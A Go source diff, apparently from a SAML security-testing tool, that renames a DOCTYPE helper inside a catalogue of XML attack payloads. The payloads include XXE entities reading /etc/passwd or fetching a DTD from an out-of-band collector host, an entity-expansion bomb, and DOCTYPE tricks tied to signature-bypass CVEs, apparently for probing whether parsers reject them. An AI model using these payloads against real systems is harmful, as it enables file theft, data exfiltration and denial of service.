@@ -30,8 +30,8 @@ func marked(with func(Donor) string) func(Donor, []byte) ([]byte, error) {
 	return func(d Donor, xml []byte) ([]byte, error) { return swap(xml, mark, with(d)) }
 }
 
-// withDoctype gives the document a document type; what it declares is written by declare.
-func withDoctype(declare func(Donor) string) func(Donor, []byte) ([]byte, error) {
+// underDoctype gives the document a document type; what it declares is written by declare.
+func underDoctype(declare func(Donor) string) func(Donor, []byte) ([]byte, error) {
 	return func(d Donor, xml []byte) ([]byte, error) {
 		declaration, rest, err := prolog(xml)
 		if err != nil {
@@ -64,39 +64,39 @@ func init() {
 	register("xml",
 		Attack{
 			Row: "XML-01", Name: "bare-doctype", Modes: Alone, Expect: Warn, Summary: "has a document type that declares nothing",
-			bytes: withDoctype(fixed("<!DOCTYPE saml2p:Response>")),
+			bytes: underDoctype(fixed("<!DOCTYPE saml2p:Response>")),
 		},
 		Attack{
 			Row: "XML-04", Name: "external-subset", Modes: OnAssertion, Lure: true, Summary: "has a document type that stands elsewhere",
 			Sources: []string{"SAML Pummel"},
-			bytes:   withDoctype(func(d Donor) string { return fmt.Sprintf(`<!DOCTYPE saml2p:Response SYSTEM "%s/dtd">`, d.Collector) }),
+			bytes:   underDoctype(func(d Donor) string { return fmt.Sprintf(`<!DOCTYPE saml2p:Response SYSTEM "%s/dtd">`, d.Collector) }),
 		},
 		Attack{
 			Row: "XML-05", Name: "parameter-entity", Modes: OnAssertion, Lure: true, Summary: "has a document type that takes declarations from elsewhere",
-			bytes: withDoctype(func(d Donor) string { return subset(fmt.Sprintf(`<!ENTITY %% x SYSTEM "%s/dtd"> %%x;`, d.Collector)) }),
+			bytes: underDoctype(func(d Donor) string { return subset(fmt.Sprintf(`<!ENTITY %% x SYSTEM "%s/dtd"> %%x;`, d.Collector)) }),
 		},
 		Attack{
 			Row: "XML-06", Name: "entity-bomb", Modes: OnAssertion, NoCrash: true, Summary: "has an entity that grows tenfold five times",
 			document: statusMessage,
-			bytes:    both(withDoctype(fixed(subset(bomb(5)))), marked(fixed("&e5;"))),
+			bytes:    both(underDoctype(fixed(subset(bomb(5)))), marked(fixed("&e5;"))),
 		},
 		Attack{
 			Row: "XML-07", Name: "entity-repeated", Modes: OnAssertion, NoCrash: true, Summary: "has a long entity that stands in it a hundred times",
 			document: statusMessage,
-			bytes: both(withDoctype(fixed(subset(fmt.Sprintf(`<!ENTITY e "%s">`, strings.Repeat("a", 5000))))),
+			bytes: both(underDoctype(fixed(subset(fmt.Sprintf(`<!ENTITY e "%s">`, strings.Repeat("a", 5000))))),
 				marked(fixed(strings.Repeat("&e;", 100)))),
 		},
 		Attack{
 			Row: "XML-08", Name: "entity-in-name", Modes: Alone, Summary: "has its name in an entity",
 			bytes: both(
-				withDoctype(func(d Donor) string { return subset(fmt.Sprintf(`<!ENTITY e "%s">`, d.Claims.NameID)) }),
+				underDoctype(func(d Donor) string { return subset(fmt.Sprintf(`<!ENTITY e "%s">`, d.Claims.NameID)) }),
 				func(d Donor, xml []byte) ([]byte, error) { return swap(xml, ">"+d.Claims.NameID+"<", ">&e;<") },
 			),
 		},
 		Attack{
 			Row: "XML-09", Name: "default-attribute", Modes: OnAssertion, Summary: "has a document type that gives the name an attribute",
 			Sources: []string{"CVE-2025-25292"},
-			bytes:   withDoctype(fixed(subset(`<!ATTLIST saml2:NameID SPNameQualifier CDATA "urn:rollcall:default">`))),
+			bytes:   underDoctype(fixed(subset(`<!ATTLIST saml2:NameID SPNameQualifier CDATA "urn:rollcall:default">`))),
 		},
 		Attack{
 			Row: "XML-09", Name: "default-namespace", Modes: OnAssertion, Sources: []string{"CVE-2025-25292"},
@@ -104,7 +104,7 @@ func init() {
 			document: arranged(false, func(w wrapping) error {
 				return w.besides(func(forged *etree.Element) { before(w.assertion, forged) })
 			}),
-			bytes: withDoctype(fixed(subset(`<!ATTLIST ds:Signature xmlns:ds CDATA #FIXED "urn:rollcall:blocked">`))),
+			bytes: underDoctype(fixed(subset(`<!ATTLIST ds:Signature xmlns:ds CDATA #FIXED "urn:rollcall:blocked">`))),
 		},
 		Attack{
 			Row: "XML-10", Name: "doctype-in-quotes", Modes: Everywhere, Sources: []string{"CVE-2025-25291"},
@@ -117,7 +117,7 @@ func init() {
 		Row: "XML-02", Name: "external-entity-file", Modes: OnAssertion, Leak: passwd,
 		Summary:  "takes the message of its status from a file of the product's",
 		document: statusMessage,
-		bytes:    both(withDoctype(fixed(subset(`<!ENTITY e SYSTEM "file:///etc/passwd">`))), marked(fixed("&e;"))),
+		bytes:    both(underDoctype(fixed(subset(`<!ENTITY e SYSTEM "file:///etc/passwd">`))), marked(fixed("&e;"))),
 	})
 	for _, place := range []struct {
 		name, called string
@@ -130,7 +130,7 @@ func init() {
 			Row: "XML-03", Name: "external-entity-in-" + place.name, Rule: "external-entity", Modes: OnAssertion, Lure: true,
 			Summary:  "takes " + place.called + " from elsewhere",
 			document: place.document,
-			bytes: both(withDoctype(func(d Donor) string { return subset(fmt.Sprintf(`<!ENTITY e SYSTEM "%s/entity">`, d.Collector)) }),
+			bytes: both(underDoctype(func(d Donor) string { return subset(fmt.Sprintf(`<!ENTITY e SYSTEM "%s/entity">`, d.Collector)) }),
 				marked(fixed("&e;"))),
 		})
 	}
@@ -142,7 +142,7 @@ func init() {
 		register("xml", Attack{
 			Row: "XML-17", Name: "odd-doctype-" + odd.name, Rule: "odd-doctype", Modes: OnAssertion, Sources: []string{"CVE-2020-29510"},
 			Summary: "has a document type " + odd.called,
-			bytes:   withDoctype(fixed(odd.doctype)),
+			bytes:   underDoctype(fixed(odd.doctype)),
 		})
 	}
 }
